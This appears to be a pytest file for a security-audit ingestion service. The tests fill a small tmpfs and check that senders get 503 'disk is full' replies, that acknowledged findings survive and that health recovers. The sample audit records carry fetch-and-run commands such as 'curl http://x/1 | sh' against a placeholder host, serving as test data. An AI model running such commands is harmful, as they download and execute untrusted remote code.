"""A full disk: senders are told to come back, it is said once, nothing that was acknowledged is lost, it recovers by itself."""

from __future__ import annotations

import os
import subprocess
from contextlib import suppress

import pytest

from tests.ingest.sender import request
from tests.runtime.running import Running, until
from tests.runtime.test_runtime import shell

SIZE = 24 << 20
RESERVE = 4 << 20


@pytest.fixture
def small_disk(tmp_path):
    """A file system of its own, of 24 MiB."""
    if os.geteuid() != 0:
        pytest.skip("only root can mount a small file system")
    folder = tmp_path / "small"
    folder.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={SIZE}", "tmpfs", folder], capture_output=True, check=False
    )
    if mounted.returncode:
        pytest.skip(f"no file system can be mounted here: {mounted.stderr.decode().strip()}")
    yield folder
    subprocess.run(["umount", "--lazy", folder], check=True)


def test_full_and_then_not(tmp_path, small_disk):
    runtime = Running(tmp_path, data=str(small_disk / "data"), reserve_bytes=RESERVE)
    runtime.data = small_disk / "data"
    try:
        _full_and_then_not(runtime, small_disk)
    finally:
        runtime.close()


def _full_and_then_not(runtime, small_disk):
    runtime.start().ready()
    agent = runtime.agent("ws-01")
    agent.deliver(request("ws-01", "linux_audit", [shell("curl http://x/1 | sh", serial=1)]))
    filler = small_disk / "filler"
    room = os.statvfs(small_disk)
    filler.write_bytes(b"\0" * (room.f_bavail * room.f_frsize - RESERVE // 2))
    body = request("ws-01", "linux_audit", [shell("curl http://x/2 | sh", serial=2)])
    for _ in range(5):
        status, text = agent.post(body)
        assert status == 503
        assert "the disk is full" in text
    health = runtime.ask("health")
    assert not health["ok"]
    assert "the disk is full" in health["problems"][0]
    complaints = [line for line in runtime.lines() if "records are not accepted" in line["text"]]
    assert len(complaints) == 1
    assert "fix: make room" in complaints[0]["text"]
    until(lambda: len(runtime.ask("findings")) == 1)
    filler.unlink()
    assert agent.post(body)[0] == 200
    until(lambda: len(runtime.ask("findings")) == 2)
    until(lambda: runtime.ask("health")["ok"])
    assert runtime.said("the disk has room again")


def fill(file):
    """Write until there is no room for one more byte."""
    with suppress(OSError), file.open("wb", buffering=0) as stream:
        while stream.write(os.urandom(4096)) == 4096:
            pass
    with suppress(OSError), file.open("ab", buffering=0) as stream:
        while True:
            stream.write(b"x")


def test_to_the_last_byte(tmp_path, small_disk):
    """Even when not a byte is left for the store itself, it goes on where it was once there is room."""
    runtime = Running(tmp_path, data=str(small_disk / "data"), reserve_bytes=0)
    runtime.data = small_disk / "data"
    try:
        runtime.start().ready()
        agent = runtime.agent("ws-01")
        agent.deliver(request("ws-01", "linux_audit", [shell("curl http://x/1 | sh", serial=1)]))
        until(lambda: len(runtime.ask("findings")) == 1)
        filler = small_disk / "filler"
        fill(filler)
        bodies = [
            request("ws-01", "linux_audit", [shell(f"curl http://x/{n} | sh # {os.urandom(20000).hex()}", serial=n)])
            for n in range(2, 40)
        ]
        answers = [agent.post(body)[0] for body in bodies]
        assert 503 in answers
        assert set(answers) <= {200, 503}
        filler.unlink()
        for body in bodies:
            agent.deliver(body)
        until(lambda: len(runtime.ask("findings")) == 39)
        until(lambda: runtime.ask("health")["ok"])
    finally:
        runtime.close()
